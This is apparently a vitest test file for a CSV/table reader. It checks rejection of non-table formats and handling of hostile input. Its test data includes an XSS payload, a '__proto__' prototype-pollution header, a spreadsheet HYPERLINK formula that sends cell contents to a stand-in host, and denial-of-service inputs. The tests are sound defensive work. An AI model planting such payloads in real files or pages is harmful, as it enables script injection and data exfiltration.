import { describe, expect, it } from "vitest";
import { en } from "../../src/i18n/en";
import { readTable } from "../../src/ingest/readTable";
import { utf8 } from "./bytes";

const read = (text: string) => readTable(utf8(text));

describe("what is no table", () => {
  it.each([
    ["html", "<!DOCTYPE html>\n<html><body><table></table></body></html>"],
    ["html", '\uFEFF  <html lang="nl">'],
    ["xml", '<?xml version="1.0"?><a/>'],
    ["json", '{"version":"2.0","class":"dataset"}'],
    ["json", '[{"a":1}]'],
    ["pdf", "%PDF-1.7\n1,2\n"],
    ["zip", "PK\u0003\u0004 anything"],
    ["xlsx", "PK\u0003\u0004 [Content_Types].xml"],
    ["ods", "PK\u0003\u0004 mimetypeapplication/vnd.oasis.opendocument.spreadsheet"],
    ["binary", "\u0000\u0001\u0002\u0003\u0004".repeat(20)],
  ])("%s is said to be one: %j", (kind, text) => {
    const { header, rows, issues } = read(text);
    expect([header, rows]).toEqual([[], []]);
    expect(issues.at(-1)).toMatchObject({ code: `not-a-table-${kind}`, severity: "error", where: "" });
    expect(en).toHaveProperty([`issue.not-a-table-${kind}`]);
  });

  it.each([
    ["image", [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]],
    ["image", [0xff, 0xd8, 0xff, 0xe0]],
    ["xls", [0xd0, 0xcf, 0x11, 0xe0, 0xa1]],
    ["zip", [0x1f, 0x8b, 0x08]],
  ])("%s by its first bytes", (kind, bytes) => {
    expect(readTable(new Uint8Array(bytes)).issues).toMatchObject([{ code: `not-a-table-${kind}` }]);
  });

  it.each(["", " \n\t\n", "\n\n\n", ",,,\n,,,\n", "\uFEFF"])("%j is empty", (text) => {
    expect(read(text)).toMatchObject({ header: [], rows: [], issues: [{ code: "empty-file", severity: "error" }] });
  });

  it("a label that looks like a tag is text", () => {
    expect(read("geo;v\n<img src=x onerror=alert(1)>;1\n").rows).toEqual([["<img src=x onerror=alert(1)>", "1"]]);
  });
});

describe("what is meant to hurt", () => {
  it("keeps __proto__ a column and its cell a cell", () => {
    const { header, rows } = read("__proto__,x\nevil,3\n");
    expect([header, rows]).toEqual([["__proto__", "x"], [["evil", "3"]]]);
    expect(Object.prototype).not.toHaveProperty("evil");
  });

  it("reads a formula as the text it is", () => {
    expect(read('name;v\n=HYPERLINK("http://x/?"&A1);1\n-5;2\n').rows[0]).toEqual(['=HYPERLINK("http://x/?"&A1)', "1"]);
  });

  const line = (columns: number, cell: (i: number) => string) =>
    Array.from({ length: columns }, (_, i) => cell(i)).join(",");

  it.each([
    ["20,000 columns", `${line(20_000, (i) => `k${i}`)}\n${`${line(20_000, String)}\n`.repeat(3)}`, 3, 20_000],
    ["20,000 names alike", `${line(20_000, () => "k")}\n${line(20_000, String)}\n`, 1, 20_000],
    ["a cell of 100,000 characters", `a,b\n1,${"x".repeat(1e5)}\n2,y\n`, 2, 2],
    ["a quote opened in every line", 'a,"b\n'.repeat(20_000), 19_999, 2],
    ["one line of a million characters", "a".repeat(1e6), 0, 1],
    ["a million quotes", '"'.repeat(1e6), 1, 1],
    ["a header and a gap again and again", "a,b\n1,2\n\n".repeat(20_000), 20_000, 2],
  ])("%s: in time and without a throw", { timeout: 10_000 }, (_, text, rows, columns) => {
    const table = read(text);
    expect([table.rows.length, table.header.length]).toEqual([rows, columns]);
    expect(table.issues.length).toBeLessThanOrEqual(2100);
  });
});
